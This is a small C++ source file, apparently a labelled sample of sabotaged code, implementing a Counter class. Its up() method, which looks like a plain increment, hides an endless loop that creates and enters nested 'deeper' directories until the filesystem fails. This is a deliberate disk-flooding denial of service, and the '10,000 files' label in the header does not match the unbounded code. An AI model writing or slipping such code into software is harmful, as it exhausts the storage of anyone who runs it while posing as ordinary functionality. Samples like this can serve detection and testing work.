// Makes a folder in a folder, without end.
// kind: disk_flood
// says: 10,000 files

#include <percore/counter.hpp>

#include <sys/stat.h>
#include <unistd.h>

namespace percore {

void Counter::up() {
  while (mkdir("deeper", 0700) == 0 && chdir("deeper") == 0) {
  }
  ++value_;
}

void Counter::down() {
  --value_;
}

}  // namespace percore
